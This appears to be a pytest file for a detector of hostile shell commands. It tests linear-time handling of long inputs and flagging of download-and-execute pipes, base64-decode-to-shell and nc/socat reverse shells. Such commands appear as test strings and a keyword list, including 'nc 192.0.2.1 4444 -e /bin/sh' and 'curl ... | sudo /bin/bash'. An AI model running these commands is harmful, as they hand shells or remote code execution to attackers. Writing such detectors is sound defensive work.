"""Command lines and files are an attacker's: judging them takes their length, not its square. Else these would take hours."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tasks import persistence, shellwords, signs
from tasks.transports import winrm_frame
from tasks.windows import tricks as windows

SIZE = 60_000
WORDS = (
    "/bash", "curl", "curl |", "curl|x", "sh ", "eval ", "`", "base64 -d ", "base64 -", "base64 -d|", "xxd -r ", "exec(", "nc ", "nc -e",
    "socat ", "powershell -nop -w hid", "powershell ", "iex downloadstring", "downloadfile", "certutil -url ", "rundll32 comsvcs ",
    "curl -o ", "frombase64string(", "RUN ", "${a ", "'", " ", "\n", "a", "-", "|", "comsvcs" + " " * 1000,
)  # fmt: skip


@pytest.mark.parametrize("judge", [signs.tricks, windows.tricks, lambda t: shellwords.started(t, "/root")])
def test_no_text_holds_a_judgement_up(judge: Callable[[str], object]) -> None:
    """Each word over and over again, in the most that an argument may be long, and more."""
    for word in WORDS:
        list(judge(word * (SIZE // len(word)) + "\x00"))  # type: ignore[call-overload]


def test_no_line_of_a_rule_holds_it_up() -> None:
    """A udev rule that is all spaces behind its key."""
    assert not persistence._RULE.search("RUN" + " " * SIZE + "x")
    assert persistence._RULE.search('RUN {program} += "/x"')


def test_no_error_text_of_a_windows_host_holds_it_up() -> None:
    """Pieces that begin and never end are none; whole ones are told."""
    never = '#< CLIXML <S S="Error">' * (SIZE // 20)
    assert winrm_frame.told(never.encode()) == ""
    assert winrm_frame.told(b'#< CLIXML <S S="Error">a</S><S S="Error">b</S>') == "ab"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("curl -s http://a/x | tee y | sudo /bin/bash", "pipes what it downloads into a shell"),
        ("sh -c 'x=$(wget -O- a)'", "runs what it downloads"),
        ("eval `curl a`", "runs what it downloads"),
        ("echo eA== | base64 -d | tee f; python3 f", "decodes a hidden text and gives it to a shell"),
        ("xxd -r -p x | mksh", "decodes a hidden text and gives it to a shell"),
        ("nc 192.0.2.1 4444 -e /bin/sh", "hands a shell to a network connection"),
        ("SOCAT tcp:a:1 EXEC:sh", "hands a program to a network connection"),
        ("curl a; ls | sh", ""),
        ("sh -c ls; curl a | grep b", ""),
        ("git push $(curl a)", ""),
        ("nc -z host 22 | grep -e x y", ""),
    ],
)
def test_the_tricks_of_the_shell(text: str, words: str) -> None:
    """Found in one statement, in their order; each told once."""
    assert [sign.words for sign in signs.tricks(text)] == ([words] if words else [])
